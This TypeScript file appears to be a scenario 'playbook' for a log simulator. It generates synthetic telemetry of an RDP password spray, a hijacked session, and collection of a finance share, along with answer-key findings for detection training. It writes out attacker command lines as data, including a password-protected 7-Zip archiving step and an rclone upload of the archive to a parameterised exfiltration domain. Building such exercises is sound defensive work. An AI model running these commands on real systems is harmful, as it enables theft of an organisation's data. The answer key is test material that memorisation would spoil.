// An outside address sprays a few passwords over many account names against a server
// that exposes Remote Desktop (bursts of 4625), gets in as one user (4624 type 3 for NLA,
// then type 10), collects a finance share into a password-protected 7-Zip archive and
// uploads it over HTTPS with rclone (one large outbound TLS connection).

import type { Proc } from '../model.ts';
import { MICROS_PER_MINUTE, MICROS_PER_SECOND } from '../time.ts';
import type { World } from '../world.ts';
import { Parameters } from './common.ts';
import type { Playbook } from './types.ts';

const SYSTEM32 = 'C:\\Windows\\System32';

function settings(world: World) {
  const p = new Parameters(world.def, world.def.attack);
  return {
    target: p.host('target'),
    fileServer: p.host('fileServer'),
    attackerIp: p.string('attackerIp'),
    attackerName: p.string('attackerWorkstation'),
    sprayAt: world.start + p.number('sprayAfterMinutes', 1, 60 * 24) * MICROS_PER_MINUTE,
    names: p.strings('sprayedNames'),
    rounds: p.number('rounds', 1, 10),
    victim: p.user('victim'),
    share: p.string('share'),
    archive: p.string('archive'),
    rclone: p.string('rclone'),
    exfilDomain: p.string('exfilDomain'),
    exfilIp: p.string('exfilIp'),
    exfilMegabytes: p.number('exfilMegabytes', 1, 100_000),
  };
}

export const passwordSpray: Playbook = {
  estimate(world) {
    const s = settings(world);
    return s.names.length * s.rounds * 2 + 80;
  },

  schedule(world) {
    const s = settings(world);
    const random = world.random;
    const target = world.host(s.target);
    const fileServer = world.host(s.fileServer);
    const domain = world.def.domain.netbios;
    const key = world.key;
    key.ip(s.attackerIp);
    key.ip(s.exfilIp);
    key.domain(s.exfilDomain);
    key.file(s.archive);
    key.file(s.rclone, true);
    world.addDns(s.exfilDomain, [s.exfilIp], 60);
    const known = new Set(world.def.users.map((user) => user.name));
    if (!s.names.includes(s.victim)) throw new Error(`scenario ${world.def.name}: attack.sprayedNames must include the victim ${s.victim}`);

    // The spray: every name once per round, one to three seconds apart; rounds 25 minutes apart.
    let when = s.sprayAt;
    let success = 0;
    for (let round = 0; round < s.rounds; round++) {
      for (const name of s.names) {
        const last = round === s.rounds - 1 && name === s.victim;
        const attempt = when;
        world.schedule(attempt, (time) => {
          const flow = world.connect(time, {
            proc: null,
            srcIp: s.attackerIp,
            dstIp: target.ip,
            dstPort: 3389,
            service: 'ssl,rdp',
            duration: last ? random.int(1, 3) * MICROS_PER_SECOND : random.int(300_000, 900_000),
            bytesOut: random.int(1800, 2600),
            bytesIn: random.int(2600, 4200),
            dstName: null,
            step: 'credential-access',
            description: `RDP connection from ${s.attackerIp} for ${name}`,
          });
          if (last) {
            success = time;
            world.logon(target, time + 400_000, {
              account: world.user(name),
              type: 3,
              package: 'NTLM',
              sourceIp: s.attackerIp,
              sourcePort: flow.srcPort,
              workstation: s.attackerName,
              step: 'initial-access',
              description: `Network logon (NLA) of ${domain}\\${name} from ${s.attackerIp} after the spray`,
            });
          } else {
            world.failedLogon(target, time + 300_000, {
              userName: name,
              domain,
              sourceIp: s.attackerIp,
              sourcePort: flow.srcPort,
              workstation: s.attackerName,
              unknownUser: !known.has(name),
              step: 'credential-access',
            });
          }
        });
        when += random.int(1, 3) * MICROS_PER_SECOND + random.int(0, 500_000);
        if (last) break;
      }
      when += 25 * MICROS_PER_MINUTE;
    }
    const entry = when - 25 * MICROS_PER_MINUTE + 5 * MICROS_PER_SECOND;
    void success;

    // The interactive session.
    let shell: Proc;
    let explorer: Proc;
    world.schedule(entry, (time) => {
      const account = world.user(s.victim);
      const sessionFlow = world.connect(time, {
        proc: null,
        srcIp: s.attackerIp,
        dstIp: target.ip,
        dstPort: 3389,
        service: 'ssl,rdp',
        duration: 95 * MICROS_PER_MINUTE,
        bytesOut: random.int(4_000_000, 9_000_000),
        bytesIn: random.int(40_000_000, 90_000_000),
        step: 'initial-access',
        description: `Remote Desktop session from ${s.attackerIp}`,
      });
      const session = world.logon(target, time + 300_000, {
        account,
        type: 10,
        sourceIp: s.attackerIp,
        sourcePort: sessionFlow.srcPort,
        workstation: target.name,
        session: 2,
        step: 'initial-access',
        description: `Remote Desktop logon (type 10) of ${domain}\\${s.victim} from ${s.attackerIp}`,
      });
      const userinit = world.startProcess(time + 2 * MICROS_PER_SECOND, {
        parent: target.known.winlogonHost!,
        image: `${SYSTEM32}\\userinit.exe`,
        commandLine: `${SYSTEM32}\\userinit.exe`,
        logon: session,
        lifetime: 8 * MICROS_PER_SECOND,
        step: 'initial-access',
      });
      explorer = world.startProcess(time + 4 * MICROS_PER_SECOND, {
        parent: userinit,
        image: 'C:\\Windows\\explorer.exe',
        commandLine: 'C:\\Windows\\Explorer.EXE',
        lifetime: null,
        step: 'initial-access',
        description: `Explorer started in ${s.victim}'s Remote Desktop session`,
      });
      world.startProcess(time + 5 * MICROS_PER_SECOND, {
        parent: target.known.termService!,
        image: `${SYSTEM32}\\rdpclip.exe`,
        commandLine: 'rdpclip',
        logon: session,
        lifetime: null,
        step: 'initial-access',
      });
      shell = world.startProcess(time + 3 * MICROS_PER_MINUTE, {
        parent: explorer,
        image: `${SYSTEM32}\\cmd.exe`,
        commandLine: '"C:\\Windows\\system32\\cmd.exe" ',
        cwd: `C:\\Users\\${s.victim}\\`,
        lifetime: 80 * MICROS_PER_MINUTE,
        step: 'discovery',
      });
    });

    // Discovery and collection over SMB.
    world.schedule(entry + 6 * MICROS_PER_MINUTE, (time) => {
      world.startProcess(time, {
        parent: shell,
        image: `${SYSTEM32}\\net.exe`,
        commandLine: `net  view \\\\${fileServer.name}`,
        lifetime: 3 * MICROS_PER_SECOND,
        step: 'discovery',
      });
      world.startProcess(time + 40 * MICROS_PER_SECOND, {
        parent: shell,
        image: `${SYSTEM32}\\net.exe`,
        commandLine: `net  use Z: ${s.share}`,
        lifetime: 4 * MICROS_PER_SECOND,
        step: 'collection',
      });
      const bytes = Math.round(s.exfilMegabytes * 1.08 * 1024 * 1024);
      const flow = world.connect(time + 42 * MICROS_PER_SECOND, {
        proc: target.known.system!,
        dstIp: fileServer.ip,
        dstPort: 445,
        service: 'smb,gssapi,krb',
        duration: 9 * MICROS_PER_MINUTE,
        bytesOut: random.int(200_000, 900_000),
        bytesIn: bytes,
        dstName: fileServer.fqdn,
        step: 'collection',
        description: `${s.victim} copied ${s.share} from ${fileServer.name} to ${target.name} over SMB`,
      });
      world.logon(fileServer, time + 42 * MICROS_PER_SECOND + 80_000, {
        account: world.user(s.victim),
        type: 3,
        package: 'Kerberos',
        sourceIp: target.ip,
        sourcePort: flow.srcPort,
        workstation: '-',
        step: 'collection',
        description: `Network logon of ${domain}\\${s.victim} on ${fileServer.name} from ${target.name}`,
      });
    });

    world.schedule(entry + 18 * MICROS_PER_MINUTE, (time) => {
      const sevenZip = world.startProcess(time, {
        parent: shell,
        image: 'C:\\Program Files\\7-Zip\\7z.exe',
        commandLine: `"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mx9 -mhe=on -p******** ${s.archive} Z:\\Q1\\*`,
        lifetime: 4 * MICROS_PER_MINUTE,
        step: 'collection',
        description: `7-Zip packed the share into the encrypted archive ${s.archive}`,
      });
      world.fileCreated(sevenZip, time + 3 * MICROS_PER_SECOND, s.archive, 'collection', `Archive ${s.archive} created`);
      world.fileCreated(explorer, time + 2 * MICROS_PER_MINUTE, s.rclone, 'exfiltration', `rclone.exe copied to ${s.rclone}`);
    });

    // Exfiltration: one long TLS upload.
    world.schedule(entry + 26 * MICROS_PER_MINUTE, (time) => {
      const rclone = world.startProcess(time, {
        parent: shell,
        image: s.rclone,
        commandLine: `${s.rclone} copy ${s.archive} remote:backup --transfers 1 --no-check-certificate`,
        lifetime: 40 * MICROS_PER_MINUTE,
        step: 'exfiltration',
        description: 'rclone started the upload',
      });
      const { address, time: resolved } = world.resolve(rclone, time + 800_000, s.exfilDomain, 'exfiltration');
      const bytes = Math.round(s.exfilMegabytes * 1024 * 1024);
      world.connect(resolved + 30_000, {
        proc: rclone,
        dstIp: address,
        dstPort: 443,
        service: 'ssl',
        duration: 37 * MICROS_PER_MINUTE,
        bytesOut: bytes,
        bytesIn: random.int(300_000, 900_000),
        dstName: s.exfilDomain,
        ssl: { serverName: s.exfilDomain, version: 'TLSv13', cipher: 'TLS_AES_256_GCM_SHA384', cert: null, validation: null },
        step: 'exfiltration',
        description: `Upload of about ${s.exfilMegabytes} MB to ${s.exfilDomain} (${s.exfilIp})`,
      });
    });

    key.finding(
      `${s.attackerIp} sprayed ${s.names.length} account names over Remote Desktop (NLA) against ${target.name} in ${s.rounds} rounds: bursts of 4625 with LogonType 3, status 0xC000006D (sub-status 0xC000006A for wrong passwords, 0xC0000064 for unknown names).`,
    );
    key.finding(`In the last round ${domain}\\${s.victim} logged on (4624 type 3, then type 10 from ${s.attackerIp}).`);
    key.finding(`From the session, ${s.share} on ${fileServer.name} was mapped and packed with 7-Zip into ${s.archive}.`);
    key.finding(
      `${s.rclone} uploaded about ${s.exfilMegabytes} MB over TLS to ${s.exfilDomain} (${s.exfilIp}); Zeek shows one long connection with a large orig_bytes.`,
    );
  },
};
